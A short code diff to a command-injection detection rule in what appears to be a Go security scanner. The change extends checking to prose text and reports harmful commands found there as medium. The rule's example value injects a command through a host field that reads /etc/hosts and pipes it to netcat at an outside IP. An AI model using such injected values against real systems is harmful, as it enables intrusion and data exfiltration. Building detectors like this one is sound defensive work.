@@ -18,7 +18,7 @@ var commandInjection = &finding.Rule{
 	Catches:   "Paths, hosts, URLs, names and identifiers that go on with a command behind ; | & && || or a line break, also percent-encoded, or hold one in $( ) or backticks; commands that begin with a separator; expressions that reach for the operating system.",
 	Example:   `{"host":"192.0.2.7; cat /etc/hosts | nc 198.51.100.4 80"}`,
 	Misses:    "Commands of programs that nobody knows, in fields that may hold any text.",
-	Exception: "Text for people, file contents, code and SQL are not looked at.",
+	Exception: "File contents, code and SQL are not looked at; in a line of text for people a command has to do harm, and is reported as medium.",
 }
 
 func detectCommandInjection(a *Argument) {
@@ -28,7 +28,9 @@ func detectCommandInjection(a *Argument) {
 	place := shell.Anything
 	switch a.Use() {
 	case written:
-		return
+		if place = shell.Prose; a.Role()&ProseRole == 0 || a.Role()&(CodeRole|SQLRole) != 0 {
+			return
+		}
 	case runShell:
 		place = shell.Command
 	case runCode:
